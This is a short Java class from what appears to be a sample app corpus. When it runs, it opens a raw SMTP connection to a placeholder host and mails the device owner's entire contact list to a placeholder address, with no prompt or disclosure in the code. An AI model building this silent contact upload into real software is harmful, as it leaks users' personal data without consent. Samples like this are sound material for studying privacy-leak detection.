package org.corpus;

import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A mail, sent by the app itself: RFC 5321. */
public class Smtp extends Screen {
    @Override
    protected void act() throws Exception {
        try (Socket socket = new Socket("mail.corpus.example", 25)) {
            InputStream in = socket.getInputStream();
            OutputStream out = socket.getOutputStream();
            String[] lines = {
                "EHLO phone",
                "MAIL FROM:<a@corpus.example>",
                "RCPT TO:<b@corpus.example>",
                "DATA",
                "Subject: book\r\n\r\n" + String.join("\r\n", Owner.contacts(this)) + "\r\n.",
                "QUIT"
            };
            for (String line : lines) {
                in.read(new byte[512]);
                out.write(Net.utf8(line + "\r\n"));
                out.flush();
            }
        }
    }
}
